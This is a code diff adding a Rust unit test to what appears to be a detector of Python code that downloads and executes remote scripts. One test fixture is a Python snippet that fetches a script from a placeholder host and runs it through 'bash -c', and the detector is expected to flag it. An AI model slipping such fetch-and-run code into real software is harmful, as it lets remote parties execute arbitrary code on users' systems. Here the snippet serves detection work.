@@ -221,3 +221,15 @@ fn class_constants_read_through_the_class() {
         f.paths
     );
 }
+
+#[test]
+fn network_data_as_an_argument_is_not_the_program() {
+    let f = facts(
+        "import subprocess, requests, sys\ndef versions():\n    return requests.get('https://releases.invalid/v').json()\ndef bench():\n    for v in versions():\n        subprocess.run([sys.executable, '-m', 'pip', 'install', f'pkg=={v}'])\n",
+    );
+    assert!(f.decode_run.is_empty(), "{:?}", f.decode_run);
+    let g = facts(
+        "import subprocess, requests\nscript = requests.get('https://x.invalid/s').text\nsubprocess.run(['bash', '-c', script])\n",
+    );
+    assert_eq!(g.decode_run[0].decoder, "remote");
+}
